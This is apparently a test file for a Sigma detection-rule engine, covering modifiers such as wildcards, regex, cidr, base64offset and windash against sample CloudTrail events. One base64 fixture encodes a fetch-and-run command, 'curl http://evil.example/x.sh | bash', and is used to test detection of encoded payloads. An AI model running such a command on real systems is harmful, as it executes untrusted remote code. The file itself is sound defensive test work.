// Every Sigma modifier of the registry, and the value semantics under them (case, wildcards,
// escapes, null, numbers, objects as JSON text, arrays), on hand-made events.
import { test } from "node:test";
import assert from "node:assert/strict";
import { matches, refusal } from "./helpers.js";
import { base64Offsets, MODIFIERS } from "../../src/detect/modifiers.js";

const alice = {
  eventName: "CreateAccessKey",
  eventSource: "iam.amazonaws.com",
  sourceIPAddress: "10.1.2.3",
  userAgent: "aws-cli/2.0 Python/3.11 distrib#kali",
  userIdentity: { type: "IAMUser", userName: "alice", arn: "arn:aws:iam::111122223333:user/alice" },
  requestParameters: { userName: "Mallory", maxCount: 5, durationSeconds: "43200" },
  responseElements: null,
  readOnly: false,
};

test("a plain value is equality, case-insensitive", () => {
  assert.deepEqual(matches("  s:\n    eventName: createaccesskey\n  condition: s", alice, { ...alice, eventName: "CreateAccessKeyX" }), [true, false]);
});

test("* and ? are wildcards; \\* \\? \\\\ escape them; another backslash is itself", () => {
  assert.deepEqual(matches("  s:\n    userAgent: 'aws-cli/*kali'\n  condition: s", alice), [true]);
  assert.deepEqual(matches("  s:\n    sourceIPAddress: '10.1.2.?'\n  condition: s", alice, { sourceIPAddress: "10.1.2.33" }), [true, false]);
  assert.deepEqual(matches("  s:\n    f: 'a\\*b'\n  condition: s", { f: "a*b" }, { f: "axxb" }), [true, false]);
  assert.deepEqual(matches("  s:\n    f: 'a\\?'\n  condition: s", { f: "a?" }, { f: "ab" }), [true, false]);
  assert.deepEqual(matches("  s:\n    f: 'C:\\Windows\\*'\n  condition: s", { f: "C:\\Windows*" }, { f: "C:\\Windowsx" }), [true, false]);
  assert.deepEqual(matches("  s:\n    f: 'a\\\\*'\n  condition: s", { f: "a\\xyz" }, { f: "a" }), [true, false]);
  assert.deepEqual(matches("  s:\n    f: 'x*y?z*'\n  condition: s", { f: "x12y3z" }, { f: "xyz" }, { f: "XAYBZ!" }), [true, false, true]);
});

test("contains, startswith, endswith", () => {
  assert.deepEqual(matches("  s:\n    userAgent|contains: KALI\n  condition: s", alice, { userAgent: "curl" }), [true, false]);
  assert.deepEqual(matches("  s:\n    userAgent|startswith: AWS-CLI\n  condition: s", alice, { userAgent: "x aws-cli" }), [true, false]);
  assert.deepEqual(matches("  s:\n    userAgent|endswith: '#kali'\n  condition: s", alice, { userAgent: "kali x" }), [true, false]);
});

test("a value list is one of them; |all is every one", () => {
  assert.deepEqual(matches("  s:\n    eventName: [DeleteTrail, CreateAccessKey]\n  condition: s", alice, { eventName: "Other" }), [true, false]);
  assert.deepEqual(matches("  s:\n    userAgent|contains|all: [aws-cli, kali]\n  condition: s", alice, { userAgent: "aws-cli/2.0" }), [true, false]);
});

test("a list of plain values with wildcards, numbers and null among them: one of them matches", () => {
  const names = "  s:\n    eventName: [DeleteTrail, 'Create*KeyX', CreateAccessKey2, StopLogging]\n  condition: s";
  assert.deepEqual(matches(names, alice, { eventName: "deletetrail" }, { eventName: "CREATEaccessKEYx" }, { eventName: "CreateAccessKey" }, { eventName: ["x", "STOPLOGGING"] }, {}), [false, true, true, false, true, false]);
  const cased = "  s:\n    eventName|cased: [DeleteTrail, CreateAccessKey]\n  condition: s";
  assert.deepEqual(matches(cased, alice, { eventName: "createaccesskey" }, { eventName: "DeleteTrail" }), [true, false, true]);
  const mixed = "  s:\n    f: [5, six, null]\n  condition: s";
  assert.deepEqual(matches(mixed, { f: 5 }, { f: "SIX" }, {}, { f: null }, { f: 6 }, { f: [7, "Six"] }), [true, true, true, true, false, true]);
  const neq = "  s:\n    f|neq: [a, B]\n  condition: s";
  assert.deepEqual(matches(neq, { f: "A" }, { f: "b" }, { f: "c" }), [false, false, true]);
});

test("cased matches case-sensitively", () => {
  assert.deepEqual(matches("  s:\n    requestParameters.userName|cased: Mallory\n  condition: s", alice, { requestParameters: { userName: "mallory" } }), [true, false]);
  assert.deepEqual(matches("  s:\n    userAgent|contains|cased: Python\n  condition: s", alice, { userAgent: "python" }), [true, false]);
});

test("re: a regex found anywhere, case-sensitive unless i; m and s flags", () => {
  assert.deepEqual(matches("  s:\n    userAgent|re: 'distrib#(kali|parrot)$'\n  condition: s", alice, { userAgent: "distrib#KALI" }), [true, false]);
  assert.deepEqual(matches("  s:\n    userAgent|re|i: 'DISTRIB#KALI'\n  condition: s", alice), [true]);
  assert.deepEqual(matches("  s:\n    f|re|m: '^b$'\n  condition: s", { f: "a\nb\nc" }, { f: "abc" }), [true, false]);
  assert.deepEqual(matches("  s:\n    f|re: 'a.b'\n  condition: s", { f: "a\nb" }), [false]);
  assert.deepEqual(matches("  s:\n    f|re|s: 'a.b'\n  condition: s", { f: "a\nb" }), [true]);
});

test("re: a pattern RE2 cannot run in linear time refuses the rule, naming the regex", () => {
  const r = refusal("  s:\n    f|re: '(?=a)b'\n  condition: s");
  assert.equal(r.kind, "regex");
  assert.match(r.message, /lookahead/);
});

test("re runs in linear time on hostile text (a nested quantifier over 100,000 characters)", () => {
  assert.deepEqual(matches("  s:\n    f|re: '^(a+)+$'\n  condition: s", { f: "a".repeat(100_000) + "!" }), [false]);
});

test("cidr: IPv4 and IPv6 networks; text that is not an address does not match", () => {
  assert.deepEqual(matches("  s:\n    sourceIPAddress|cidr: [10.0.0.0/8, '2001:db8::/32']\n  condition: s", alice, { sourceIPAddress: "2001:db8::5" }, { sourceIPAddress: "11.0.0.1" }, { sourceIPAddress: "ec2.amazonaws.com" }), [true, true, false, false]);
  assert.equal(refusal("  s:\n    sourceIPAddress|cidr: not-a-net\n  condition: s").modifier, "cidr");
});

test("exists: the field is there (even null), or not", () => {
  assert.deepEqual(matches("  s:\n    responseElements|exists: true\n  condition: s", alice, { eventName: "x" }), [true, false]);
  assert.deepEqual(matches("  s:\n    errorCode|exists: false\n  condition: s", alice, { errorCode: "AccessDenied" }), [true, false]);
});

test("null: the field is absent or null", () => {
  assert.deepEqual(matches("  s:\n    responseElements: null\n  condition: s", alice, { responseElements: {} }, { eventName: "x" }), [true, false, true]);
});

test("fieldref: equal to another field of the event (case-insensitive), with startswith too", () => {
  const self = { userIdentity: { userName: "Bob" }, requestParameters: { userName: "bob" } };
  assert.deepEqual(matches("  s:\n    requestParameters.userName|fieldref: userIdentity.userName\n  condition: s", self, alice), [true, false]);
  assert.deepEqual(matches("  s:\n    requestParameters.userName|fieldref|cased: userIdentity.userName\n  condition: s", self), [false]);
  assert.deepEqual(matches("  s:\n    a|fieldref|startswith: b\n  condition: s", { a: "prefix-rest", b: "prefix" }, { a: "rest", b: "prefix" }), [true, false]);
});

test("lt, lte, gt, gte compare numbers (and strings that are numbers)", () => {
  const e = alice;
  assert.deepEqual(matches("  s:\n    requestParameters.maxCount|gt: 4\n  condition: s", e), [true]);
  assert.deepEqual(matches("  s:\n    requestParameters.maxCount|gte: 5\n  condition: s", e), [true]);
  assert.deepEqual(matches("  s:\n    requestParameters.maxCount|lt: 5\n  condition: s", e), [false]);
  assert.deepEqual(matches("  s:\n    requestParameters.maxCount|lte: 5\n  condition: s", e), [true]);
  assert.deepEqual(matches("  s:\n    requestParameters.durationSeconds|gte: 43200\n  condition: s", e), [true]);
  assert.deepEqual(matches("  s:\n    userAgent|gt: 1\n  condition: s", e), [false]);
  assert.equal(refusal("  s:\n    a|gt: many\n  condition: s").modifier, "gt");
  // decimal numbers in text, as the query language reads them: "0x10" is not 16, nor "Infinity" a number
  const texts = ["16", " 16 ", "1.6e1", "0x10", "0b10000", "Infinity", ""].map((n) => ({ ...alice, requestParameters: { n } }));
  assert.deepEqual(matches("  s:\n    requestParameters.n|gt: 10\n  condition: s", ...texts), [true, true, true, false, false, false, false]);
});

test("base64 and base64offset find an encoded value", () => {
  const payload = Buffer.from("#!/bin/bash\ncurl http://evil.example/x.sh | bash").toString("base64");
  assert.deepEqual(matches("  s:\n    userData|base64: '#!/bin/bash'\n  condition: s", { userData: Buffer.from("#!/bin/bash").toString("base64") }, { userData: payload }), [true, false]);
  assert.deepEqual(matches("  s:\n    userData|base64offset|contains: evil.example\n  condition: s", { userData: payload }, { userData: Buffer.from("good.example").toString("base64") }), [true, false]);
  // the three offsets, for every position of the value in the encoded text
  for (const lead of ["", "x", "xy", "xyz"]) {
    const enc = Buffer.from(`${lead}evil.example tail`).toString("base64");
    assert.ok(base64Offsets(Buffer.from("evil.example")).some((v) => enc.includes(v)), lead);
  }
});

test("utf16le (wide) with base64offset; an encoding without base64 after it is refused", () => {
  const enc = Buffer.from("run evil.exe now", "utf16le").toString("base64");
  assert.deepEqual(matches("  s:\n    f|wide|base64offset|contains: evil.exe\n  condition: s", { f: enc }), [true]);
  assert.deepEqual(matches("  s:\n    f|utf16le|base64offset|contains: evil.exe\n  condition: s", { f: enc }), [true]);
  assert.equal(refusal("  s:\n    f|utf16le: x\n  condition: s").modifier, "utf16le");
});

test("windash: each dash or slash stands for the others", () => {
  const m = (v: string): boolean[] => matches("  s:\n    cmd|windash|contains: ' -force'\n  condition: s", { cmd: `tool ${v}force` });
  for (const d of ["-", "/", "\u2013", "\u2014", "\u2015"]) assert.deepEqual(m(d), [true], d);
  assert.deepEqual(m("+"), [false]);
});

test("neq: the field differs from every value", () => {
  assert.deepEqual(matches("  s:\n    eventName|neq: [CreateAccessKey, DeleteTrail]\n  condition: s", alice, { eventName: "StopLogging" }), [false, true]);
});

test("expand, the time modifiers and unknown modifiers refuse the rule, naming the modifier", () => {
  for (const m of ["expand", "hour", "nosuch"]) {
    const r = refusal(`  s:\n    f|${m}: x\n  condition: s`);
    assert.equal(r.kind, "modifier");
    assert.equal(r.modifier, m);
    assert.match(r.message, new RegExp(m));
  }
});

test("modifiers that cannot combine are refused", () => {
  assert.match(refusal("  s:\n    f|contains|re: x\n  condition: s").message, /contains cannot be combined with re/);
  assert.match(refusal("  s:\n    f|re|cidr: x\n  condition: s").message, /cannot be combined/);
  assert.match(refusal("  s:\n    f|i: x\n  condition: s").message, /go with re/);
});

test("a field holding an object is matched on its JSON text; an array matches when one element does", () => {
  const policy = { requestParameters: { bucketName: "b", bucketPolicy: { Statement: [{ Effect: "Allow", Principal: "*" }] } } };
  const narrow = { requestParameters: { bucketPolicy: { Statement: [{ Principal: "arn:aws:iam::1:root" }] } } };
  // an unescaped * is a wildcard: any principal; escaped, the text "*" only
  assert.deepEqual(matches("  s:\n    requestParameters|contains: '\"Principal\":\"*\"'\n  condition: s", policy, narrow), [true, true]);
  assert.deepEqual(matches("  s:\n    requestParameters|contains: '\"Principal\":\"\\*\"'\n  condition: s", policy, narrow), [true, false]);
  const items = { requestParameters: { instancesSet: { items: [{ instanceId: "i-1" }, { instanceId: "i-2" }] } } };
  assert.deepEqual(matches("  s:\n    requestParameters.instancesSet.items.instanceId: i-2\n  condition: s", items), [true]);
  assert.deepEqual(matches("  s:\n    requestParameters.instancesSet.items|contains: i-2\n  condition: s", items), [true]);
  assert.deepEqual(matches("  s:\n    tags: b\n  condition: s", { tags: ["a", "b"] }, { tags: ["a"] }), [true, false]);
});

test("numbers and booleans in rules match the event's numbers and booleans as text", () => {
  assert.deepEqual(matches("  s:\n    readOnly: false\n  condition: s", alice, { readOnly: true }), [true, false]);
  assert.deepEqual(matches("  s:\n    requestParameters.maxCount: 5\n  condition: s", alice), [true]);
});

test("a dotted name is also tried as one key", () => {
  assert.deepEqual(matches("  s:\n    a.b: x\n  condition: s", { "a.b": "x" }, { a: { b: "x" } }, { a: { c: "x" } }), [true, true, false]);
});

test("keywords: one of them appears in the event's JSON text (case-insensitive)", () => {
  assert.deepEqual(matches("  keywords:\n    - EVIL.example\n    - nothing-here\n  condition: keywords", { userAgent: "x evil.example y" }, alice), [true, false]);
  assert.deepEqual(matches("  keywords:\n    '|contains|all': [kali, mallory]\n  condition: keywords", alice, { userAgent: "kali" }), [true, false]);
});

test("an inherited name (constructor, __proto__) is a field like any other", () => {
  assert.deepEqual(matches("  s:\n    constructor|exists: true\n  condition: s", alice, { constructor: "x" }), [false, true]);
});

test("the registry names each modifier the specification lists", () => {
  for (const m of ["contains", "startswith", "endswith", "all", "re", "i", "m", "s", "cidr", "exists", "cased", "fieldref", "lt", "lte", "gt", "gte", "base64", "base64offset", "windash", "expand", "neq", "utf16le", "utf16be", "utf16", "wide"]) {
    assert.ok(MODIFIERS.has(m), m);
  }
});
